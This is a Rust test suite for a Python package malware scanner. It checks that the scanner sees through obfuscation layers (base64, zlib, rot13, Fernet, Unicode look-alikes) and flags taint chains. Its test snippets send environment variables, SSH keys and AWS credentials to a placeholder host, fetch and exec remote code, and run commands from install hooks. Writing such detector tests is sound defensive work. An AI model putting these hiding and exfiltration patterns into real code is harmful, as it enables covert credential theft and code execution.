//! Look-alikes of what is really uploaded: each row is one way of hiding, and what must be seen of it.

use base64::Engine as _;
use proptest::prelude::*;

use super::*;

pub(super) fn one(source: &str) -> Program {
    all(&[("pkg/__init__.py", source)])
}

fn all(sources: &[(&str, &str)]) -> Program {
    let limits = Limits::default();
    let modules = sources.iter().map(|(path, text)| ((*path).to_owned(), read(text.as_bytes(), &limits))).collect();
    link(modules, &[], &limits)
}

/// `kind name text` of every effect, one a line.
fn lines(program: &Program) -> Vec<String> {
    let shown = |seen: Seen<'_>| {
        let labels: Vec<_> = seen.labels.names().collect();
        let layer = seen.layer().join("/");
        let text = seen.effect.text().replace('\n', " | ");
        format!(
            "{} {} [{text}] <{}> {:?} {layer}",
            seen.effect.kind.word(),
            seen.effect.name,
            labels.join(","),
            seen.reach
        )
    };
    program.effects().map(shown).collect()
}

#[track_caller]
pub(super) fn sees(program: &Program, parts: &[&str]) {
    let lines = lines(program);
    assert!(
        lines.iter().any(|line| parts.iter().all(|part| line.contains(part))),
        "{parts:?} is in none of {lines:#?}"
    );
}

#[track_caller]
pub(super) fn chained(program: &Program, kind: ChainKind) {
    let found: Vec<_> = program.chains().iter().map(|chain| chain.kind).collect();
    assert!(found.contains(&kind), "{kind:?} is not among {found:?} of {:#?}", lines(program));
}

fn b64(text: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(text)
}

fn deflated(text: &str) -> Vec<u8> {
    use std::io::Write as _;
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(text.as_bytes()).expect("memory");
    encoder.finish().expect("memory")
}

const PAYLOAD: &str = "import os\nos.system('echo harmless')\n";

#[test]
fn names_are_resolved_however_they_are_spelled() {
    let rows = [
        "import os\nos.system('echo harmless')",
        "import os as o\no.system('echo harmless')",
        "from os import system as s\ns('echo harmless')",
        "from os import *\nsystem('echo harmless')",
        "x = __import__('os')\nx.system('echo harmless')",
        "import os\ngetattr(os, 'sys' + 'tem')('echo harmless')",
        "import os\ngetattr(os, 'metsys'[::-1])('echo ' + 'harmless')",
        "import os\n(os.system)('echo harmless')",
        "import os\n(lambda c: os.system(c))('echo harmless')",
        "import os\nglobals()['os'].system('echo harmless')",
        "import os\nvars(os)['system']('echo harmless')",
        "import os\nos.__dict__['system']('echo harmless')",
        "import sys, os\nsys.modules['os'].system('echo harmless')",
        "import importlib\nimportlib.import_module('o' 's').system('echo harmless')",
        "getattr(__builtins__, '__im' 'port__')('os').system('echo harmless')",
        "import builtins\nbuiltins.__dict__['__import__']('os').system('echo harmless')",
        "import os\n\u{1d428}\u{1d42c}.\u{1d42c}ystem('echo harmless')",
        "import os\nd = {'r': os.system}\nd['r']('echo harmless')",
        "import os\n[os.system][0]('echo harmless')",
        "import os\nfrom functools import partial\npartial(os.system, 'echo harmless')()",
        "import os\nrun = os.system if True else None\nrun('echo harmless')",
        "import os\nclass A:\n    go = os.system\n    def b(self):\n        self.go('echo harmless')\nA().b()",
        "import os\n[f('echo harmless') for f in (os.system,)]",
        "import os\nlist(map(os.system, ['echo harmless']))",
        "import os\ndef f(c=('echo %s' % 'harmless')):\n    os.system(c)\nf('echo harmless')",
    ];
    for source in rows {
        let program = one(source);
        assert!(
            lines(&program).iter().any(|l| l.starts_with("process os.system [echo harmless]")),
            "{source}: {:#?}",
            lines(&program)
        );
    }
}

#[test]
fn constants_are_folded() {
    let rows = [
        "'ec' + 'ho' + ' hi' + 'dden'",
        "'%s %s' % ('echo', 'hidden')",
        "'{} {}'.format('echo', 'hidden')",
        "f\"{'echo'} hidden\"",
        "' '.join(['echo', 'hidden'])",
        "'neddih ohce'[::-1]",
        "''.join(reversed('neddih ohce'))",
        "''.join(chr(c) for c in [101,99,104,111,32,104,105,100,100,101,110])",
        "''.join(map(chr, [101,99,104,111,32,104,105,100,100,101,110]))",
        "bytes([101,99,104,111,32,104,105,100,100,101,110]).decode()",
        "bytes.fromhex('6563686f2068696464656e').decode()",
        "'ecXho hiXdden'.replace('X', '')",
        "''.join([chr(ord(c) ^ 1) for c in 'dbin!iheedo'])",
        "''.join(chr(n - 1) for n in (102,100,105,112,33,105,106,101,101,102,111))",
        "'rpub uvqqra'.encode('rot13') if 0 else __import__('codecs').decode('rpub uvqqra', 'rot13')",
        "'echo hidden,x'.split(',')[0]",
        "''.join(chr(a ^ b) for a, b in zip(b'dbin!iheedo', b'\\x01' * 11))",
        "(lambda s: s[::-1])('neddih ohce')",
        "'\\x65cho hid\\u0064en'",
    ];
    for source in rows {
        let program = one(&format!("import os\nos.system({source})"));
        sees(&program, &["process os.system [echo hidden]"]);
    }
}

#[test]
fn decoders_written_in_the_module_are_walked() {
    let source = "import os\ndef d(s, k):\n    out = ''\n    for c in s:\n        out += chr(ord(c) ^ k)\n    return out\n\
                  os.system(d('dbin!iheedo', 1))";
    sees(&one(source), &["process os.system [echo hidden]"]);
    let source = "import os\ndef d(s):\n    i = 0\n    out = []\n    while i < len(s):\n        out.append(chr(s[i] - 2))\n\
                  \x20       i += 1\n    return ''.join(out)\nos.system(d([103,101,106,113]))";
    sees(&one(source), &["process os.system [echo]"]);
}

#[test]
fn layers_are_peeled_and_read_in_turn() {
    let zipped = base64::engine::general_purpose::STANDARD.encode(deflated(PAYLOAD));
    let reversed: String = zipped.chars().rev().collect();
    let hex: String = PAYLOAD.bytes().map(|b| format!("{b:02x}")).collect();
    let rows = [
        (format!("import base64\nexec(base64.b64decode('{}'))", b64(PAYLOAD)), "base64"),
        (format!("from base64 import b64decode as d\ne = exec\ne(d('{}').decode())", b64(PAYLOAD)), "base64"),
        (format!("import zlib,base64\nexec(zlib.decompress(base64.b64decode('{zipped}')))"), "base64/zlib"),
        (
            format!(
                "_=lambda __:__import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));\
                 exec((_)(b'{reversed}'))"
            ),
            "base64/zlib",
        ),
        (format!("exec(bytes.fromhex('{hex}'))"), "hex"),
        (format!("color_print = exec\ncolor_print(compile(bytes.fromhex('{hex}'), '<s>', 'exec'))"), "hex"),
        (format!("import codecs\nexec(codecs.decode({:?}, 'rot13'))", peel::rot13(PAYLOAD)), "rot13"),
        (format!("exec({PAYLOAD:?})"), "string"),
        (format!("eval(compile({PAYLOAD:?}, 'x', 'exec'))"), "string"),
        (format!("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', {PAYLOAD:?}])"), "string"),
        ("import subprocess\nsubprocess.run('python -c \"import os; os.system(1)\"', shell=True)".to_owned(), "string"),
    ];
    for (source, layer) in rows {
        let program = one(&source);
        sees(&program, &["process os.system", "ImportTime", layer]);
    }
}

#[test]
fn fifty_layers_are_peeled() {
    let mut text = PAYLOAD.to_owned();
    for _ in 0..50 {
        text = format!("import base64\nexec(base64.b64decode('{}'))", b64(&text));
        if text.len() > 1_000_000 {
            break;
        }
    }
    let program = one(&text);
    sees(&program, &["process os.system [echo harmless]"]);
}

#[test]
fn fernet_and_aes_with_their_keys_are_opened() {
    // Made once by the `cryptography` project from the text below.
    let key = [7_u8; 32];
    let plain = PAYLOAD.as_bytes();
    let token = fernet_token(&key, plain);
    let key = base64::engine::general_purpose::URL_SAFE.encode(key);
    let inner = format!("from cryptography.fernet import Fernet\nexec(Fernet(b'{key}').decrypt(b'{token}'))");
    sees(&one(&inner), &["process os.system [echo harmless]", "fernet"]);
    // The same inside a literal that is written to a file and started.
    let outer = format!("import os\nopen('/tmp/x.py', 'w').write({inner:?})\nos.system('python /tmp/x.py')");
    let program = one(&outer);
    sees(&program, &["process os.system [echo harmless]", "string/fernet"]);
    chained(&program, ChainKind::WriteRun);
}

fn fernet_token(key: &[u8], plain: &[u8]) -> String {
    use aes::cipher::{Block, BlockCipherEncrypt, KeyInit};
    let cipher = aes::Aes128::new_from_slice(&key[16..]).expect("16 bytes");
    let pad = 16 - plain.len() % 16;
    let mut padded = plain.to_vec();
    padded.extend(std::iter::repeat_n(pad as u8, pad));
    let mut token = vec![0x80];
    token.extend([0; 8]);
    let mut before = [9_u8; 16];
    token.extend(before);
    for block in padded.chunks(16) {
        let mixed = peel::xor(block, &before).expect("a key");
        let mut out = Block::<aes::Aes128>::try_from(&mixed[..]).expect("a block");
        cipher.encrypt_block(&mut out);
        before = out.into();
        token.extend(before);
    }
    token.extend([0; 32]);
    base64::engine::general_purpose::URL_SAFE.encode(token)
}

#[test]
fn taint_is_followed_from_source_to_network() {
    let url = "https://c.example.invalid/x";
    let rows = [
        (format!("import os, requests\nrequests.post('{url}', json=dict(os.environ))"), ChainKind::EnvironmentSend),
        (
            format!("import os, requests\nout = ''\nfor k, v in os.environ.items():\n    out += k + v\nrequests.get('{url}?' + out)"),
            ChainKind::EnvironmentSend,
        ),
        (
            format!(
                "import os, requests\ndef collect():\n    return {{'e': os.environ}}\ndef send(d):\n    requests.post('{url}', data=d)\n\
                 send(collect())"
            ),
            ChainKind::EnvironmentSend,
        ),
        (
            format!(
                "import socket, base64, urllib.request\nh = base64.b64encode(socket.gethostname().encode())\n\
                 urllib.request.urlopen(f'{url}/{{h}}')"
            ),
            ChainKind::CollectEncodeSend,
        ),
        (
            format!("import requests\ndef login(private_key):\n    requests.post('{url}', json={{'k': private_key}})"),
            ChainKind::SecretParameterSend,
        ),
        (
            "import os\nfrom http.client import HTTPSConnection\nwith open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n    d = f.read()\n\
             c = HTTPSConnection('c.example.invalid')\nc.request('POST', '/', d)"
                .to_owned(),
            ChainKind::StoreSend,
        ),
        (
            format!("import pathlib, httpx\nhttpx.post('{url}', content=(pathlib.Path.home() / '.aws/credentials').read_text())"),
            ChainKind::StoreSend,
        ),
        (
            format!(
                "import os, requests\nclass C:\n    def __init__(self):\n        self.t = os.environ\n    def go(self):\n\
                 \x20       requests.post('{url}', json=self.t)\nC().go()"
            ),
            ChainKind::EnvironmentSend,
        ),
        (
            "import socket, getpass\ns = socket.socket()\ns.connect(('c.example.invalid', 53))\ns.send(getpass.getuser().encode())".to_owned(),
            ChainKind::CollectSend,
        ),
        (
            "import subprocess, socket\nout = subprocess.check_output('id', shell=True)\nsocket.create_connection(('c.example.invalid', 1)).sendall(out)".to_owned(),
            ChainKind::OutputSend,
        ),
        (
            "import socket\ns = socket.gethostname()\nsocket.gethostbyname(s + '.c.example.invalid')".to_owned(),
            ChainKind::CollectSend,
        ),
    ];
    for (source, kind) in rows {
        let program = one(&source);
        chained(&program, kind);
    }
}

#[test]
fn what_comes_from_the_network_is_seen_to_run() {
    let rows = [
        ("import requests\nexec(requests.get('https://c.example.invalid/a').text)", ChainKind::FetchExec),
        (
            "import urllib.request as u\neval(u.urlopen('https://c.example.invalid/a').read().decode())",
            ChainKind::FetchExec,
        ),
        ("import requests, os\nos.system(requests.get('https://c.example.invalid/a').text)", ChainKind::FetchProcess),
        (
            "import requests, os\nr = requests.get('https://c.example.invalid/a.exe')\nwith open('a.exe', 'wb') as f:\n    f.write(r.content)\n\
             os.startfile('a.exe')",
            ChainKind::FetchWriteRun,
        ),
        (
            "import urllib.request, subprocess\ndef fetch(u, p):\n    urllib.request.urlretrieve(u, p)\ndef go():\n\
             \x20   fetch('https://c.example.invalid/a', '/tmp/a')\n    subprocess.Popen(['/tmp/a'])\ngo()",
            ChainKind::FetchWriteRun,
        ),
        ("import base64\ndef f(x):\n    exec(base64.b64decode(x))", ChainKind::DecodeExec),
    ];
    for (source, kind) in rows {
        chained(&one(source), kind);
    }
}

#[test]
fn modules_are_linked() {
    let half = b64(PAYLOAD);
    let (a, b) = half.split_at(20);
    let program = all(&[
        (
            "pkg/a.py",
            &format!(
                "A = '{a}'\nHOST = 'https://c.example.invalid/'\ndef send(what):\n    import requests\n    requests.post(HOST, data=what)\n"
            ),
        ),
        ("pkg/b.py", &format!("B = '{b}'\n")),
        (
            "pkg/__init__.py",
            "import base64, os\nfrom .a import A, HOST, send\nfrom . import b\nexec(base64.b64decode(A + b.B))\n\
             send(os.environ)\nos.system('curl ' + HOST + 'x')",
        ),
    ]);
    sees(&program, &["process os.system [echo harmless]", "base64", "ImportTime"]);
    sees(&program, &["network requests.post", "environment", "ImportTime"]);
    sees(&program, &["process os.system [curl https://c.example.invalid/x]"]);
    chained(&program, ChainKind::EnvironmentSend);
}

#[test]
fn what_runs_by_itself_is_told_from_what_is_called() {
    let program = all(&[
        (
            "p-1.0/setup.py",
            "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n\
             \x20   def run(self):\n        os.system('echo install')\nsetup(cmdclass={'install': I})\n",
        ),
        (
            "p-1.0/pkg/__init__.py",
            "import os, threading, atexit\ndef work():\n    os.system('echo thread')\nthreading.Thread(target=work).start()\n\
             @atexit.register\ndef bye():\n    os.system('echo exit')\ndef on_use():\n    os.system('echo call')\n\
             if __name__ == '__main__':\n    os.system('echo main')\n",
        ),
    ]);
    for (text, reach) in [
        ("echo install", "InstallTime"),
        ("echo thread", "ImportTime"),
        ("echo exit", "ImportTime"),
        ("echo call", "OnCall"),
        ("echo main", "Script"),
    ] {
        sees(&program, &[&format!("[{text}]"), reach]);
    }
}

#[test]
fn odd_writing_is_seen() {
    let rows = [
        (format!("x = 1{};exec('1')", " ".repeat(100)), OddityKind::PushedRight),
        (format!("if x:\n{}exec('1')\n", " ".repeat(100)), OddityKind::PushedRight),
        ("lIlIlIl = 1\nIlIlIlI = lIlIlIl\nllIIllI = 2\n".to_owned(), OddityKind::LookAlikeNames),
        ("p\u{430}ssword = 1\n".to_owned(), OddityKind::MixedScripts),
        ("\u{1d41e}xec('1')\n".to_owned(), OddityKind::StyledName),
        (format!("x = '{}'\n", "\u{200b}".repeat(8)), OddityKind::Invisible),
        ("x = 'a\u{202e}b'\n".to_owned(), OddityKind::Bidi),
        ("from pyarmor_runtime_000000 import __pyarmor__\n".to_owned(), OddityKind::Obfuscator),
        (format!("x = '{}'\n", b64(&"a quite ordinary text ".repeat(60))), OddityKind::EncodedLiteral),
        ("x = 1\0\n".to_owned(), OddityKind::Nul),
        ("# coding: rot13\nvzcbeg bf\n".to_owned(), OddityKind::Cookie),
        ("print 'two'\n".to_owned(), OddityKind::SyntaxError),
    ];
    for (source, kind) in rows {
        let module = read(source.as_bytes(), &Limits::default());
        assert!(module.oddities().iter().any(|oddity| oddity.kind == kind), "{kind:?}: {:?}", module.oddities());
    }
    let near = format!("x = 1{0}# a note\ny = 'μ'\nμs = 3\nz = f(x,\n{0}  g(y))\n", " ".repeat(99));
    assert_eq!(read(near.as_bytes(), &Limits::default()).oddities(), &[]);
}

#[test]
fn every_encoding_is_read() {
    let source = "import os\nos.system('echo harmless')";
    let utf16: Vec<u8> = [0xff, 0xfe].into_iter().chain(source.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let rot13 = format!("# coding: rot13\n{}", peel::rot13(source));
    let utf7 = "# -*- coding: utf-7 -*-\nimport os+AAo-os.system('echo harmless')";
    let rows: [&[u8]; 8] = [
        b"\xef\xbb\xbfimport os\nos.system('echo harmless')",
        &utf16,
        rot13.as_bytes(),
        utf7.as_bytes(),
        b"# coding: latin-1\n# \xe9\nimport os\nos.system('echo harmless')",
        b"import os\ros.system('echo harmless')\r",
        b"\x0cimport os\n\x0cos.system('echo harmless')",
        b"import os\n\0os.system('echo harmless')\nprint 'two', `x`\n",
    ];
    for bytes in rows {
        let module = read(bytes, &Limits::default());
        assert!(module.effects().iter().any(|e| &*e.name == "os.system"), "{:?}", String::from_utf8_lossy(bytes));
    }
}

#[test]
fn nothing_that_nests_ends_the_process() {
    // Below, at about, and far above what is parsed.
    [190, 6_500, 9_900, 100_000].into_iter().for_each(nests);
}

fn nests(n: usize) {
    let rows = [
        "(".repeat(n),
        "[".repeat(n) + &"]".repeat(n),
        "{".repeat(n),
        "f(".repeat(n),
        "x = ".to_owned() + &"not ".repeat(n) + "x",
        "x = ".to_owned() + &"-".repeat(n) + "1",
        "x = ".to_owned() + &"lambda: ".repeat(n) + "1",
        "x = ".to_owned() + &"1 if 1 else ".repeat(n) + "1",
        "x".to_owned() + &".x".repeat(n),
        "x".to_owned() + &"()".repeat(n),
        "x = 1".to_owned() + &" + 1".repeat(n),
        "x = 1".to_owned() + &" ** 1".repeat(n),
        "f\"{".repeat(n),
        "f'{f\"{".repeat(n / 2),
        "if x: pass\n".to_owned() + &"elif x: pass\n".repeat(n),
        (0..1_000).map(|n| " ".repeat(n) + "if x:\n").collect::<String>(),
        "x = []\nfor i in range(100000):\n    x = [x]\n".to_owned(),
        "x = f\nfor i in range(100000):\n    x = g(x)\n".to_owned(),
        "x = f()\n".to_owned() + &"x.append(x)\n".repeat(1_000),
        "x = []\nfor i in range(1000):\n    x.append(x)\n".to_owned(),
        "def f(x):\n    return f(x)\nf(1)\n".to_owned(),
        "f = lambda x: f(x)\nf(1)\n".to_owned(),
        "x = 'a'\nwhile x:\n    x += x\n".to_owned(),
        "x = b'a' * (1 << 60)\ny = range(1 << 60)\nz = 10 ** 10 ** 10\n".to_owned(),
    ];
    for source in rows {
        let module = read(source.as_bytes(), &Limits::default());
        assert_eq!(&*module.functions()[0].name, "<module>");
    }
}

#[test]
fn limits_hold_at_the_limit_and_one_past_it() {
    let limits = Limits { source_bytes_max: 20, brackets_max: 3, strings_max: 1, ..Limits::default() };
    for (source, degraded) in [
        ("x = 1 + 1 + 1 + 1\n#1", false),
        ("x = 1 + 1 + 1 + 1\n#12", true),
        ("((()))", false),
        ("(((())))", true),
        ("f'{x}'", false),
        ("f'{f\"{x}\"}'", true),
    ] {
        assert_eq!(!read(source.as_bytes(), &limits).cuts().is_empty(), degraded, "{source}");
    }
}

#[test]
fn a_program_says_what_it_can_do_in_words() {
    let program = one("import os, requests\nrequests.post('https://c.example.invalid/', json=dict(os.environ))");
    let words = program.words();
    for word in
        ["cap:network", "host:c.example.invalid", "import:requests", "startup:import:network", "chain:environmentsend"]
    {
        assert!(words.contains(word), "{word}: {words:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_bytes_are_read(bytes in proptest::collection::vec(any::<u8>(), 0..2_000)) {
        let module = read(&bytes, &Limits::default());
        prop_assert!(!module.functions().is_empty());
    }

    #[test]
    fn any_cut_of_a_module_is_read(at in 0_usize..1_000) {
        let source = "import os\nclass A:\n    def f(self, x: int = 1) -> str:\n        return f'{x!r:>{x}}' + os.getenv('A')\n\
                      for i in [A().f(n) for n in range(3)]:\n    print(i, **{'a': lambda: (yield)})\nx = '''\n'''\n";
        let mut at = at.min(source.len());
        while !source.is_char_boundary(at) { at -= 1; }
        let module = read(&source.as_bytes()[..at], &Limits::default());
        let _ = link(vec![("a.py".to_owned(), module)], &[], &Limits::default());
    }
}

/// `rot13`, as nothing else hides from a reader of literals that the code is there.
fn hidden(text: &str) -> String {
    format!("__import__('codecs').decode({:?}, 'rot13')", peel::rot13(text))
}

#[test]
fn one_place_may_run_many_things() {
    let harmless = format!("{:1$}", "print('harmless')", PAYLOAD.len());
    let (a, b) = (hidden(&harmless), hidden(PAYLOAD));
    let more: String = (0..40).map(|n| format!("'x = {n}', ")).collect();
    let filler = "x = 1\n    ".repeat(31);
    let deeper = "        x = 1\n".repeat(31);
    let rows = [
        format!("for code in ({a}, {b}):\n    exec(code)"),
        format!("for code in ({b}, {a}):\n    exec(code)"),
        format!("for code in ({more}{b}):\n    exec(code)"),
        format!("for code in ({a}, {b}):\n    {filler}exec(code)"),
        format!("codes = [{more}{b}]\nn = 0\nwhile n < 41:\n    exec(codes[n])\n    n += 1"),
        format!("[exec(code) for code in ({more}{b})]"),
        format!("def run(code):\n    exec(code)\nrun({a})\nrun({b})"),
        format!("def run(code):\n    {filler}exec(code)\nrun({b})"),
        format!("def run(code):\n    exec(code)\nfor code in ({more}{b}):\n    run(code)"),
        format!("def run(code):\n    {filler}exec(code)\ndef go(code):\n    {filler}run(code)\ngo(code={b})"),
        format!(
            "def a(x): b(x)\ndef b(x): c(x)\ndef c(x): d(x)\ndef d(x): e(x)\ndef e(x): f(x)\ndef f(x): exec(x)\na({b})"
        ),
        format!("class C:\n    def run(self, code):\n{deeper}        exec(code)\nC().run({b})"),
    ];
    for source in rows {
        let program = one(&source);
        let lines = lines(&program);
        assert!(lines.iter().any(|l| l.starts_with("process os.system [echo harmless]")), "{source}: {lines:#?}");
    }
    let program = one("import os\nfor line in ('echo a', 'echo b'):\n    os.system(line)");
    sees(&program, &["process os.system [echo a]"]);
    sees(&program, &["process os.system [echo b]"]);
}

#[test]
fn a_loop_is_walked_whatever_its_test_says() {
    let filler = "x = 1\n    ".repeat(31);
    for head in ["while n < 5:\n    ", "while 0:\n    ", "while n > 5:\n    "] {
        let program = one(&format!("import os\nn = 0\n{head}{filler}os.system('echo harmless')"));
        sees(&program, &["process os.system [echo harmless]"]);
    }
}

#[test]
fn what_a_codec_hides_is_read_or_counts_as_decoded() {
    let bytes = |data: Vec<u8>| format!("b'{}'", data.iter().map(|b| format!("\\x{b:02x}")).collect::<String>());
    let wide = |to: fn(u32) -> [u8; 4]| PAYLOAD.chars().flat_map(|c| to(u32::from(c))).collect::<Vec<u8>>();
    let big = PAYLOAD.encode_utf16().flat_map(u16::to_be_bytes).collect();
    // By Python: `PAYLOAD.encode("cp037")`.
    let page = "8994979699a34096a22596a24ba2a8a2a385944d7d8583889640888199949385a2a27d5d25";
    let rows = [
        (bytes(big), "utf-16-be"),
        (bytes(wide(u32::to_le_bytes)), "utf-32-le"),
        (bytes(wide(u32::to_be_bytes)), "utf_32_be"),
        (bytes(peel::hex(page.as_bytes()).expect("hexadecimal")), "cp037"),
        (bytes(PAYLOAD.as_bytes().to_vec()), "cp1252"),
        (bytes(PAYLOAD.as_bytes().to_vec()), "UTF8"),
        ("b'import os+AAo-os.system(+ACc-echo harmless+ACc-)'".to_owned(), "utf-7"),
    ];
    for (data, codec) in rows {
        for call in [format!("{data}.decode('{codec}')"), format!("str({data}, '{codec}')")] {
            sees(&one(&format!("exec({call})")), &["process os.system [echo harmless]"]);
        }
    }
    let ignored = PAYLOAD.replace("system", "sys\\xfftem");
    sees(
        &one(&format!("exec(b\"\"\"{ignored}\"\"\".decode('ascii', 'ignore'))")),
        &["process os.system [echo harmless]"],
    );
    for call in ["b'abc'.decode('cp500')", "str(b'abc', 'cp500')", "'abc'.encode('punycode').decode()"] {
        chained(&one(&format!("exec({call})")), ChainKind::DecodeExec);
    }
}

#[test]
fn taint_is_not_forgotten_in_a_crowd() {
    let send = "requests.post('https://c.example.invalid/', json=";
    let fillers: String = (0..40).map(|n| format!("def f{n}(): return '{n}'\n")).collect();
    let calls: String = (0..40).map(|n| format!("f{n}(), ")).collect();
    let names: String = (0..40).map(|n| format!("p{n}=0, ")).collect();
    let rows = [
        format!("{fillers}def g(): return dict(os.environ)\n{send}[{calls}g()])"),
        format!("def s({names}q=0):\n    {send}q)\ns(q=dict(os.environ))"),
        format!("def s({names}q=0):\n    return q\n{send}s(q=dict(os.environ)))"),
    ];
    for source in rows {
        chained(&one(&format!("import os, requests\n{source}")), ChainKind::EnvironmentSend);
    }
    let near = format!("import os, requests\n{fillers}x = dict(os.environ)\n{send}[{calls}])");
    assert!(one(&near).chains().is_empty());
}

#[test]
fn what_is_called_by_a_star_is_found_among_many() {
    let stars: String = (0..40).map(|n| format!("from m{n} import *\n")).collect();
    let program = all(&[
        ("pkg/__init__.py", &format!("import os\n{stars}from .z import *\nsend(os.environ)")),
        ("pkg/z.py", "import requests\ndef send(x):\n    requests.post('https://c.example.invalid/', json=x)"),
    ]);
    chained(&program, ChainKind::EnvironmentSend);
}

#[test]
fn signs_are_seen_wherever_they_stand() {
    assert_eq!(signs_in("metamask"), ["store:wallet"]);
    assert_eq!(signs_in("mshta"), ["shell:hidden"]);
    let long = |n: usize| "x".repeat(n);
    assert_eq!(signs_in(&(long(60_000) + ".kdbx")), ["store:passwords"]);
    assert_eq!(signs_in(&(long(1 << 20) + ".kdbx")), ["store:passwords"]);
    assert_eq!(signs_in(&(".kdbx".to_owned() + &long(1 << 20))), ["store:passwords"]);
    // In the middle of so much words stand by chance.
    assert!(signs_in(&(long(1 << 20) + ".kdbx" + &long(1 << 20))).is_empty());
    let program = one("import os\nos.system(' ' * 5000 + 'echo harmless' + 'x' * 5000 + '| bash')");
    sees(&program, &["process os.system", "echo harmless", "| bash"]);
}

#[test]
fn folding_pays_before_it_makes() {
    let budget = || pure::Budget { steps: 1_000, bytes: 1 << 20, value_bytes_max: 1 << 20, is_spent: false };
    let text = value::Value::str(&",\n".repeat(2_000));
    for name in ["split", "splitlines"] {
        assert!(pure::method(&text, name, &[], &mut budget()).is_none(), "{name}");
    }
    let short = value::Value::str(&",\n".repeat(900));
    assert!(pure::method(&short, "splitlines", &[], &mut budget()).is_some());
    let list = |n: i64| value::Value::list((0..n).map(value::Value::int).collect());
    let columns: Vec<value::Value> = std::iter::once(list(100)).chain((0..20).map(|_| list(1))).collect();
    assert!(pure::function("zip", &columns, &mut budget()).is_none());
    assert!(pure::function("zip", &columns[..3], &mut budget()).is_some());
}

#[test]
fn every_label_has_one_name() {
    let all = Labels(Labels::ENCODED.0 << 1).0 - 1;
    assert_eq!(Labels(all).names().count(), all.count_ones() as usize);
    assert!((0..all.count_ones()).all(|bit| Labels(1 << bit).names().count() == 1));
}
